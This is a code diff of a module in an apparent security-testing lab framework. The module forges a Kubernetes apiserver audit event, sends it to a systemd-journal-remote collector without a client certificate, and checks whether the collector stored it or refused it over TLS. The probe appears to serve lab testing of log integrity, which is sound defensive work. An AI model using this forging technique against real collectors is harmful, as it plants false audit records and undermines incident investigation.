@@ -13,13 +13,13 @@ from __future__ import annotations
 import json
 import secrets
 import time
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
+from labkit import agents
 from labkit.errors import ProbeError
 from labkit.lab.traces import Trace, leaving
-from labkit.model import Foothold, Model, read_model
-from labkit.techniques._lib.api.ask import ask, url_of
-from labkit.techniques._lib.machines.reach import Answer, attacker
+from labkit.model import Channel, Foothold, Model, read_model
+from labkit.techniques._lib.machines.reach import address_in_lab, attacker, run_from
 from labkit.techniques._lib.machines.waiting import wait_for
 from labkit.techniques._lib.stores.journal import (
     COLLECTOR,
@@ -42,7 +42,9 @@ __all__ = ["TECHNIQUE"]
 #: A collector may take entries beside the channel on which the machines send theirs.
 STRANGERS = "anyone@network -> systemd-journal-remote@*"
 #: What a request must be to be taken at all.
-MEDIA = ("--header", "Content-Type: application/vnd.fdo.journal")
+MEDIA = "application/vnd.fdo.journal"
+#: How the collector answers when it takes entries.
+TAKEN = 202
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
@@ -67,26 +69,45 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
     ident, master = f"labkit-forged-{secrets.token_hex(8)}", master_of(lab.environment)
     # the collector names the file of a sender without a certificate after the sender's address
     file = f"{STORE}/remote-{lab.addresses[attacker(lab)]}.journal"
-
-    def proof(answer: Answer) -> str:
-        if answer.status != 202:
-            raise ProbeError(f"{TECHNIQUE.name}: HTTP {answer.status} is no answer of a collector")
-        has = ("_HOSTNAME=" + master, "_SYSTEMD_UNIT=kube-apiserver.service")
-        missing = "the collector took an entry, and does not have it"
-        wait_for(lab, lambda: collector_has(lab, ident, *has), PATIENCE, missing)
-        return f"the collector has an audit event of the apiserver on {master} that it never made"
-
+    asked = f"POST /upload at {channel.server_node}:{channel.port}"
     with leaving(lab, Trace("file", file, COLLECTOR)):
-        return ask(
-            lab,
-            TECHNIQUE.name,
-            foothold,
-            url_of(channel, "/upload"),
-            method="POST",
-            options=[*MEDIA, "--data-binary", _entry(ident, master)],
-            proof=proof,
-            control=lambda: entry_arrives(lab),
+        answer = _send(lab, foothold, channel, _entry(ident, master))
+        if answer.get("status") == TAKEN:
+            has = (f"_HOSTNAME={master}", "_SYSTEMD_UNIT=kube-apiserver.service")
+            missing = "the collector took an entry, and does not have it"
+            wait_for(lab, lambda: collector_has(lab, ident, *has), PATIENCE, missing)
+            found = (
+                f"the collector has an audit event of the apiserver on {master} that it never made"
+            )
+            reason = f"HTTP {TAKEN}"
+            return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, (asked, found))
+    if answer.get("error") != "alert":
+        raise ProbeError(f"{TECHNIQUE.name}: no known refusal", evidence=[str(answer)])
+    reason = f"TLS alert: {answer['text']}"
+    control = entry_arrives(lab)
+    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, (asked,), control)
+
+
+def _send(lab: Lab, foothold: Foothold, channel: Channel, entry: str) -> dict[str, Any]:
+    """Send an entry, and return the status, or the alert: curl loses it if it comes too early."""
+    job = {
+        "op": "http",
+        "host": address_in_lab(lab, channel.server_node, foothold),
+        "port": channel.port,
+        "tls": channel.protocol == "https",
+        "path": "/upload",
+        "method": "POST",
+        "headers": {"Content-Type": MEDIA},
+        "body": entry,
+    }
+    jobs = json.dumps({"forge": job}).encode()
+    said = run_from(lab, foothold, agents.argv("probe"), stdin=jobs)
+    if said.exit_code:
+        raise ProbeError(
+            f"{TECHNIQUE.name}: nothing was sent", evidence=[said.error.strip()[-200:]]
         )
+    found: dict[str, Any] = json.loads(said.stdout)["forge"]
+    return found
 
 
 def _entry(ident: str, machine: str) -> str:
